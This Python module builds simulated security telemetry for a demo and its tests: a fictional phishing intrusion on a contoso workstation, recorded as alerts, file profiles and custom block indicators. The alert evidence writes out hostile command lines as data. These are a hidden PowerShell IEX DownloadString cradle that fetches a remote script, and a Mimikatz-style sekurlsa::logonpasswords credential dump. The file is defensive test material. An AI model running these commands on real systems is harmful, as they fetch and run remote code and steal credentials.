"""The demo story (contoso): fixed rows the demo and the tests assert, and the indicators that
find them.

Device `ws-fin-042` (the only device in any tenant that ever had local IP 10.1.2.3) and its three
alerts (2 High, 1 Low), whose evidence tells one intrusion: a macro in WINWORD starts PowerShell,
which downloads from `DEMO_DOMAIN`, talks to `DEMO_REMOTE_IP` and drops `DEMO_FILE`, a credential
stealer. The seeded fleet carries the same campaign onto a few other contoso devices
(`data.contoso_spec`). Plus `srv-dc01`. These rows keep fixed timestamps (2026-11-26/27).
"""

from __future__ import annotations

from datetime import datetime, timedelta
from typing import Any

from bot.demo.simulator import catalog, docs, seed
from bot.demo.simulator.derive import hashes_for
from bot.demo.simulator.rows import (
    FileHashes,
    Row,
    Submitter,
    alert_row,
    evidence,
    file_profile,
    indicator_row,
    iso,
    user_evidence,
)

CONTOSO_TENANT = "4f1c2a0e-6b1d-4c1e-9a57-0c7d3f1e2a10"
FABRIKAM_TENANT = "9b2e7d41-3c5a-4f08-8e6b-2d1f0a9c7e55"
UNLICENSED_TENANT = "0d6a3b1c-2e4f-4a5b-8c7d-9e0f1a2b3c4d"

# ---- The demo device and its story (contoso) -------------------------------------------------
DEMO_IP = "10.1.2.3"  # ws-fin-042's local IP; no other device in any tenant ever had it
DEMO_HOST = "ws-fin-042.corp.contoso.com"
DEMO_MACHINE_ID = "b2f9c1d47a3e8f60519c2d7e4a8b3f1c6d0e9a27"
DEMO_ALERT_IDS = (
    "da638671234567890123_1029384756",  # High: Suspicious PowerShell command line
    "da638671234567890124_5647382910",  # High: Credential dumping activity observed
    "da638671234567890125_1928374650",  # Low: Unusual sign-in time
)
DEMO_USER = "lgarcia"  # CONTOSO\lgarcia, the finance clerk who opened the document
# The credential stealer PowerShell dropped: on ws-fin-042 (alert 2), alerted on ws-fin-017 and
# srv-file01, seen without an alert on ws-fin-021. Not in fabrikam.
DEMO_FILE = "payroll_sync.exe"
DEMO_SHA1 = "49dfae9740d7509386a6c8850f5ce8a1093aae9b"
DEMO_SHA256 = "d5621aab05838442ea6e92b1ee689a76ebcff053bfc1a38835a450f4d18143c8"
DEMO_MD5 = "6aeeab7a824189ea070d6982447b37d7"  # hunting only: MDE's files API takes no MD5
# Where PowerShell downloaded it from (alert 1 on ws-fin-042; phishing alerts on ws-fin-023 and
# ws-fin-008), and the C2 address the same alerts carry.
DEMO_DOMAIN = "payroll-sync-update.com"
DEMO_URL = f"https://{DEMO_DOMAIN}/stage2.ps1"
DEMO_REMOTE_IP = "198.51.100.77"
# An indicator another app already audits (a custom indicator, like the blocked DEMO_SHA256).
AUDITED_IP = catalog.BAD_IPS[1]
# HQ's finance egress: lastExternalIpAddress of every ws-fin-* device and of srv-dc01. Not
# filterable in MDE: advanced hunting (DeviceInfo.PublicIP) finds them.
DEMO_EXTERNAL_IP = "203.0.113.24"
# ---- Other good indicators ---------------------------------------------------------------------
SHARED_IP = "10.8.0.25"  # lastIpAddress of 4 contoso devices (DHCP handed it on); findbyip tells
SHARED_IP_HOSTS = ("ws-sales-004", "ws-eng-011", "ws-sales-019", "ws-eng-027")  # oldest first
CROSS_TENANT_IP = "192.168.1.20"  # a home network: one device in contoso, one in fabrikam
HOST_PREFIX = "ws-fin-"  # 25 contoso devices (ws-fin-001 … ws-fin-024 and ws-fin-042)
DC_HOST = "srv-dc01.corp.contoso.com"
FABRIKAM_HOST = "fab-ws-007.ad.fabrikam.com"
POWERSHELL = hashes_for(catalog.LOLBINS[0], "")  # one hash in every tenant
# ---- Documented examples (served as documented) -----------------------------------------------
DOC_MACHINE_ID = docs.DOC_MACHINE_ID
DOC_ALERT_ID = docs.DOC_ALERT_ID
DOC_RELATED_ALERT_ID = docs.DOC_RELATED_ALERT_ID
DOC_FILE_SHA1 = docs.DOC_FILE_SHA1

DEMO_HASHES = FileHashes(DEMO_SHA1, DEMO_SHA256, DEMO_MD5)
_DEMO_ACCOUNT: Row = {
    "accountName": DEMO_USER,
    "domainName": "CONTOSO",
    "userSid": "S-1-5-21-1390067357-1202013513-3111209342-4127",
    "aadUserId": "3f2b8c1e-7a4d-4e6f-9b0a-5c1d2e3f4a5b",
    "userPrincipalName": "lena.garcia@contoso.com",
}


def _machine(
    mid: str,
    name: str,
    ip: str,
    *,
    os_platform: str = "Windows11",
    version: str = "23H2",
    build: int = 22631,
    health: str = "Active",
    risk: str = "High",
    exposure: str = "Medium",
    last_seen: str = "2026-11-27T22:14:05.1234567Z",
    tags: tuple[str, ...] = (),
    group: tuple[int, str] = (11, "Finance"),
) -> Row:
    return {
        "id": mid,
        "computerDnsName": name,
        "firstSeen": "2025-03-02T09:11:41.3342012Z",
        "lastSeen": last_seen,
        "osPlatform": os_platform,
        "version": version,
        "osProcessor": "x64",
        "osArchitecture": "64-bit",
        "lastIpAddress": ip,
        "lastExternalIpAddress": DEMO_EXTERNAL_IP,
        "osBuild": build,
        "healthStatus": health,
        "onboardingStatus": "Onboarded",
        "rbacGroupId": group[0],
        "rbacGroupName": group[1],
        "riskScore": risk,
        "exposureLevel": exposure,
        "deviceValue": "Normal",
        "isAadJoined": True,
        "aadDeviceId": None,
        "machineTags": list(tags),
        "agentVersion": "10.8760.22631.1012",
        "defenderAvStatus": "Updated",
        "managedBy": "Intune",
        "ipAddresses": [
            {
                "ipAddress": ip,
                "macAddress": "00155D8A3B21",
                "type": "Ethernet",
                "operationalStatus": "Up",
            }
        ],
        "vmMetadata": None,
    }


def _story_alert(
    aid: str, machine: Row, title: str, severity: str, *, category: str, created: str, **extra: Any
) -> Row:
    return alert_row(
        aid,
        machine,
        tenant_id=CONTOSO_TENANT,
        title=title,
        severity=severity,
        category=category,
        created=created,
        incidentId=4711,
        detectorId="0f3a1c52-7c1e-4f7b-9a5e-1d2c3b4a5f60",
        **extra,
    )


def story_rows() -> tuple[list[Row], list[Row], list[Row], list[Row]]:
    """The demo's machines, alerts, file profiles and IP leases."""
    fin = _machine(DEMO_MACHINE_ID, DEMO_HOST, DEMO_IP, tags=("Tier0", "Finance"))
    dc = _machine(
        "7c1e9a5d3b2f4e6a8c0d1f3e5a7b9c2d4e6f8a01",
        DC_HOST,
        "10.1.0.10",
        os_platform="WindowsServer2022",
        version="21H2",
        build=20348,
        risk="Low",
        exposure="Low",
        group=(3, "Domain Controllers"),
    )
    powershell = catalog.LOLBINS[0]
    first, second, third = DEMO_ALERT_IDS
    alerts = [
        _story_alert(
            first,
            fin,
            "Suspicious PowerShell command line",
            "High",
            category="Execution",
            created="2026-11-27T21:58:12.4410000Z",
            mitreTechniques=["T1059.001"],
            evidence=[
                user_evidence("2026-11-27T21:58:13.0120000Z", _DEMO_ACCOUNT),
                evidence(
                    "Process",
                    "2026-11-27T21:58:13.2040000Z",
                    sha1=POWERSHELL.sha1,
                    sha256=POWERSHELL.sha256,
                    fileName=powershell.name,
                    filePath=powershell.folder,
                    processId=7412,
                    processCommandLine="powershell.exe -NoProfile -WindowStyle Hidden -Command "
                    f"\"IEX (New-Object Net.WebClient).DownloadString('{DEMO_URL}')\"",
                    processCreationTime="2026-11-27T21:57:58.1030000Z",
                    parentProcessId=5128,
                    parentProcessCreationTime="2026-11-27T21:51:40.7750000Z",
                    parentProcessFileName="WINWORD.EXE",
                    parentProcessFilePath="C:\\Program Files\\Microsoft Office\\root\\Office16",
                    detectionStatus="Detected",
                ),
                evidence("Url", "2026-11-27T21:58:13.2040000Z", url=DEMO_URL),
                evidence("Ip", "2026-11-27T21:58:13.2040000Z", ipAddress=DEMO_REMOTE_IP),
            ],
        ),
        _story_alert(
            second,
            fin,
            "Credential dumping activity observed",
            "High",
            category="CredentialAccess",
            created="2026-11-27T22:03:40.0190000Z",
            mitreTechniques=["T1003.001"],
            evidence=[
                evidence(
                    "File",
                    "2026-11-27T22:03:41.1170000Z",
                    sha1=DEMO_SHA1,
                    sha256=DEMO_SHA256,
                    fileName=DEMO_FILE,
                    filePath=f"C:\\Users\\{DEMO_USER}\\AppData\\Local\\Temp",
                    detectionStatus="Detected",
                ),
                evidence(
                    "Process",
                    "2026-11-27T22:03:41.1170000Z",
                    sha1=DEMO_SHA1,
                    sha256=DEMO_SHA256,
                    fileName=DEMO_FILE,
                    filePath=f"C:\\Users\\{DEMO_USER}\\AppData\\Local\\Temp",
                    processId=9120,
                    processCommandLine=f'{DEMO_FILE} "privilege::debug" '
                    '"sekurlsa::logonpasswords" exit',
                    processCreationTime="2026-11-27T22:03:37.6610000Z",
                    parentProcessId=7412,
                    parentProcessCreationTime="2026-11-27T21:57:58.1030000Z",
                    parentProcessFileName=powershell.name,
                    parentProcessFilePath=powershell.folder,
                    detectionStatus="Detected",
                ),
                user_evidence("2026-11-27T22:03:41.1170000Z", _DEMO_ACCOUNT),
            ],
        ),
        _story_alert(
            third,
            fin,
            "Unusual sign-in time",
            "Low",
            category="SuspiciousActivity",
            created="2026-11-26T07:12:03.5550000Z",
            evidence=[user_evidence("2026-11-26T07:12:04.0010000Z", _DEMO_ACCOUNT)],
        ),
    ]
    profile = file_profile(
        DEMO_HASHES,
        size=1_355_264,
        prevalence=7,
        first_observed="2026-11-19T16:40:12.5530000Z",
        last_observed="2026-11-27T22:03:41.1170000Z",
        publisher=None,
        product=None,
        signer=None,
        issuer=None,
        valid_certificate=False,
        determination="Malware",
        determination_value="HackTool:Win32/Mimikatz",
        file_type="APP",
    )
    leases = [
        seed.lease(m["id"], m["lastIpAddress"], datetime.fromisoformat(m["firstSeen"]), None)
        for m in (fin, dc)
    ]
    return [fin, dc], alerts, [profile], leases


def story_indicators(now: datetime) -> list[Row]:
    """Contoso's custom indicators, relative to `now`: `DEMO_SHA256` blocked by the IR lead
    (active for 90 more days), `AUDITED_IP` audited by a SIEM connector app, and `DEMO_DOMAIN`
    blocked once but expired (the list shows active indicators only)."""
    lead = Submitter("ir-lead@contoso.com", "User")
    siem = Submitter("0f6c2d1e-5b4a-4c3d-9e8f-7a6b5c4d3e2f", "AadApp", "SIEM connector")
    return [
        indicator_row(
            "9001",
            DEMO_SHA256,
            "FileSha256",
            "BlockAndRemediate",
            by=lead,
            created=now - timedelta(days=1, hours=3),
            title=f"{DEMO_FILE}: credential stealer",
            description="Dropped by PowerShell on ws-fin-042 (incident 4711).",
            severity="High",
            recommendedActions="Isolate the device and reset the user's credentials.",
            expirationTime=iso(now + timedelta(days=90)),
            generateAlert=True,
        ),
        indicator_row(
            "9002",
            AUDITED_IP,
            "IpAddress",
            "Audit",
            by=siem,
            created=now - timedelta(days=12),
            title="Known scanner",
            description="Seen scanning the perimeter.",
            severity="Low",
            generateAlert=True,
        ),
        indicator_row(
            "9003",
            DEMO_DOMAIN,
            "DomainName",
            "Block",
            by=lead,
            created=now - timedelta(days=40),
            title="Phishing domain (last quarter)",
            description="Blocked during an earlier campaign.",
            expirationTime=iso(now - timedelta(days=10)),
        ),
    ]
